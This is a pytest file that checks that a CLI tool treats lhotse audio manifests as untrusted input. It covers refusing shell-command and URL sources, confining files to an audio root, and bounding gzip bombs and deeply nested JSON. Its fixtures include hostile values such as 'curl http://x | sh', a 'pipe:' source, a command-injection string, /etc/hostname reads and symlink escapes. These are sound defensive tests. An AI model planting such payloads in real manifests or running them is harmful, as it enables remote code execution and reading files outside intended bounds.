"""lhotse manifests as untrusted input: no command run, nothing fetched, no file read outside the
audio root unless the user says so; bombs and deep lines answered per line, in bounded work."""
from __future__ import annotations

import gzip
import json
import zlib

import numpy as np
import pytest
import soundfile as sf

from mimi_cli.formats.audio import AudioError
from mimi_cli.formats.cuts import lhotse_items, lhotse_reason
from mimi_cli.formats.limits import EXPANSION_SLACK_BYTES, MAX_LINE_BYTES
from mimi_cli.formats.manifests import ManifestOptions

lhotse = pytest.importorskip("lhotse")


def recording(rid: str, source: str, kind: str = "file") -> dict:
    return {"id": rid, "sources": [{"type": kind, "channels": [0], "source": source}], "sampling_rate": 24000,
            "num_samples": 4800, "duration": 0.2, "channel_ids": [0]}


def wav(path, seconds=0.2):
    path.parent.mkdir(parents=True, exist_ok=True)
    sf.write(path, (0.1 * np.random.default_rng(0).standard_normal(int(24000 * seconds))).astype(np.float32), 24000)
    return path


def manifest(path, entries, gz=False):
    text = "".join(json.dumps(e) + "\n" for e in entries).encode()
    path.write_bytes(gzip.compress(text) if gz else text)
    return path


def listed(path, **options):
    return {item.key: (item, loader, audio) for item, loader, audio in lhotse_items(path, ManifestOptions(**options))}


def test_a_command_source_runs_nothing_unless_allowed(tmp_path):
    good = wav(tmp_path / "data" / "a.wav")
    marker = tmp_path / "pwned"
    path = manifest(tmp_path / "data" / "recs.jsonl", [
        recording("good", str(good)),
        recording("cmd", f"touch {marker}; cat {good}", "command")])
    items = listed(path)
    assert items["good"][0].error is None
    assert "shell command" in items["cmd"][0].error and "--allow-commands" in items["cmd"][0].error
    items["good"][1].open(True).whole()
    assert not marker.exists()
    allowed = listed(path, allow_commands=True)
    assert allowed["cmd"][0].error is None
    pcm = allowed["cmd"][1].open(True).whole()  # the user trusts this manifest: its command runs
    assert marker.exists() and pcm.shape == (1, 4800)


def test_url_and_other_sources_are_refused(tmp_path):
    path = manifest(tmp_path / "recs.jsonl", [
        recording("url", "https://example.com/a.wav", "url"),
        recording("pipe", "pipe:touch /tmp/x", "url"),
        recording("local", "file:///etc/hostname", "url"),
        recording("mem", "UklGRg==", "memory"),
        recording("odd", "x", "telepathy")])
    items = listed(path)
    assert "--allow-network" in items["url"][0].error and "--allow-network" in items["pipe"][0].error
    assert "type 'memory'" in items["mem"][0].error and "type 'telepathy'" in items["odd"][0].error
    allowed = listed(path, allow_network=True)
    assert allowed["url"][0].error is None  # fetched when its batch comes
    assert "no network address" in allowed["pipe"][0].error and "no network address" in allowed["local"][0].error


def test_file_sources_stay_inside_the_audio_root(tmp_path):
    inside = wav(tmp_path / "corpus" / "in.wav")
    outside = wav(tmp_path / "elsewhere" / "out.wav")
    (tmp_path / "corpus" / "link.wav").symlink_to(outside)
    path = manifest(tmp_path / "corpus" / "recs.jsonl", [
        recording("abs-in", str(inside)), recording("rel-in", "in.wav"),
        recording("abs-out", str(outside)), recording("rel-out", "../elsewhere/out.wav"),
        recording("link-out", str(tmp_path / "corpus" / "link.wav")), recording("etc", "/etc/hostname"),
        recording("missing", "nope.wav")])
    items = listed(path)
    assert items["abs-in"][0].error is None and items["rel-in"][0].error is None
    assert items["rel-in"][2] == str(inside.resolve())
    for key in ("abs-out", "rel-out", "link-out", "etc"):
        assert "outside the audio root" in items[key][0].error and "--audio-root" in items[key][0].error
    assert items["missing"][0].error is None  # reading it says so (a file gone since it was encoded is kept)
    wider = listed(path, audio_root=tmp_path)
    assert wider["abs-out"][0].error is None and wider["link-out"][0].error is None
    assert wider["rel-in"][2] == str(tmp_path.resolve() / "in.wav")  # relative paths start at the root


def test_a_relative_path_that_lhotse_would_read_from_here_gets_a_hint(tmp_path, monkeypatch, caplog):
    wav(tmp_path / "download" / "a.wav")
    (tmp_path / "data").mkdir()
    path = manifest(tmp_path / "data" / "recs.jsonl", [recording("a", "download/a.wav")])
    monkeypatch.chdir(tmp_path)
    listed(path)
    assert "names download/a.wav, which is not there" in caplog.text and "--audio-root ." in caplog.text


def test_nested_sources_are_checked_too(tmp_path):
    good = wav(tmp_path / "a.wav")
    rir = recording("rir", "curl http://x | sh", "command")
    rec = recording("r", str(good))
    rec["transforms"] = [{"name": "ReverbWithImpulseResponse", "kwargs": {"rir_recording": rir}}]
    mixed = {"id": "mix", "type": "MixedCut", "tracks": [
        {"cut": {"id": "t0", "type": "MonoCut", "start": 0, "duration": 0.2, "channel": 0,
                 "recording": recording("r0", "https://x/y.wav", "url")}, "offset": 0}]}
    path = manifest(tmp_path / "cuts.jsonl", [{"id": "c", "type": "MonoCut", "start": 0, "duration": 0.2,
                                               "channel": 0, "recording": rec}, mixed])
    items = listed(path)
    assert "shell command" in items["c"][0].error and "--allow-network" in items["mix"][0].error


@pytest.mark.parametrize("gz", [False, True])
def test_a_line_over_the_cap_ends_the_manifest_after_the_good_lines(tmp_path, gz):
    good = wav(tmp_path / "a.wav")
    text = (json.dumps(recording("a", str(good))) + "\n").encode() + b'{"id": "' + b"x" * (MAX_LINE_BYTES + 1)
    path = tmp_path / ("m.jsonl.gz" if gz else "m.jsonl")
    path.write_bytes(gzip.compress(text) if gz else text)
    items = list(lhotse_items(path))
    assert items[0][0].key == "a" and items[0][0].error is None
    assert len(items) == 2 and "a line of over 8 MiB" in items[1][0].error


def bomb(path, pattern: bytes, total: int, head: bytes = b""):
    """A gzip file of `head` and then `total` bytes of `pattern`, compressed as it is written."""
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    with open(path, "wb") as f:
        f.write(z.compress(head))
        chunk = pattern * (1 << 20)
        for _ in range(total // len(chunk)):
            f.write(z.compress(chunk))
        f.write(z.flush())
    return path


def test_a_gzip_bomb_of_newlines_stops_at_the_expansion_limit(tmp_path):
    good = wav(tmp_path / "a.wav")
    path = bomb(tmp_path / "m.jsonl.gz", b"\n", 4 * EXPANSION_SLACK_BYTES,
                (json.dumps(recording("a", str(good))) + "\n").encode())
    assert path.stat().st_size < 1 << 20
    items = list(lhotse_items(path))
    assert items[0][0].key == "a" and items[0][0].error is None
    assert len(items) == 2 and "decompresses to over 32 times its size" in items[1][0].error


def test_deep_and_malformed_lines_are_error_rows(tmp_path):
    good = wav(tmp_path / "a.wav")
    path = manifest(tmp_path / "m.jsonl", [recording("a", str(good))])
    with open(path, "ab") as f:
        f.write(b"[" * 50_000 + b"]" * 50_000 + b"\n" + b"{not json\n" + b'"a string"\n' + b"\xff\xfe\n")
        f.write((json.dumps(recording("b", str(good))) + "\n").encode())
    items = list(lhotse_items(path))
    assert [i.key for i, _, _ in items] == ["a", "m.jsonl:1", "m.jsonl:2", "m.jsonl:3", "m.jsonl:4", "b"]
    assert "nested over 64 deep" in items[1][0].error
    assert all(i.error for i, _, _ in items[2:5]) and items[5][0].error is None


def test_lhotse_reason_keeps_the_cause():
    e = Exception("Reading audio from '/x.wav' failed. Details:\nException #0 (<class 'lhotse.audio.backend."
                  "LibsndfileBackend'>): <class 'soundfile.LibsndfileError'>: Error opening '/x.wav': Format not "
                  "recognised.\nSet LHOTSE_AUDIO_LOADING_EXCEPTION_VERBOSE=1 environment variable for full stack "
                  "traces.")
    assert lhotse_reason(e) == "Error opening '/x.wav': Format not recognised."


def test_a_cut_too_large_to_load_whole_is_refused_before_lhotse_loads_it(tmp_path):
    """lhotse loads a cut whole, every channel at its own rate: an hour of eight channels at
    48 kHz would be 5.5 GB. A cut whose samples are more than half of --max-duration at 24 kHz
    mono is an error row, said before anything is read; 45 minutes at 16 kHz mono are within it."""
    big = dict(recording("big", str(wav(tmp_path / "a.wav"))), sampling_rate=48000, num_samples=48000 * 3600,
               duration=3600.0, channel_ids=list(range(8)))
    big["sources"][0]["channels"] = list(range(8))
    path = manifest(tmp_path / "recs.jsonl", [big])
    item, loader, _ = listed(path)["big"]
    assert item.error is None
    with pytest.raises(AudioError, match="lhotse loads a cut whole.*raise --max-duration"):
        loader.open(True, 3600)
    from mimi_cli.formats.cuts import check_whole
    check_whole(16000 * 2700, 3600)  # 45 minutes of 16 kHz mono: loaded
    with pytest.raises(AudioError):
        check_whole(16000 * 3600, 3600)


def test_files_libsndfile_would_misread_are_read_by_ffmpeg(tmp_path):
    """A FLAC that states no length (as written to a pipe) fails in libsndfile at its end; a
    recording of one loads all the same, with the samples of the FLAC that states its length."""
    import io

    x = (0.1 * np.random.default_rng(1).standard_normal(24000 * 2)).astype(np.float32)
    buf = io.BytesIO()
    sf.write(buf, x, 24000, format="FLAC", subtype="PCM_16")
    flac = bytearray(buf.getvalue())
    flac[8 + 13] &= 0xF0  # STREAMINFO's total sample count zeroed
    flac[8 + 14:8 + 18] = bytes(4)
    (tmp_path / "piped.flac").write_bytes(bytes(flac))
    (tmp_path / "whole.flac").write_bytes(buf.getvalue())
    entries = [dict(recording(name, str(tmp_path / f"{name}.flac")), num_samples=48000, duration=2.0)
               for name in ("piped", "whole")]
    items = listed(manifest(tmp_path / "recs.jsonl", entries))
    piped, whole = (items[name][1].open(True).whole() for name in ("piped", "whole"))
    assert piped.shape == (1, 48000) and np.array_equal(piped, whole)
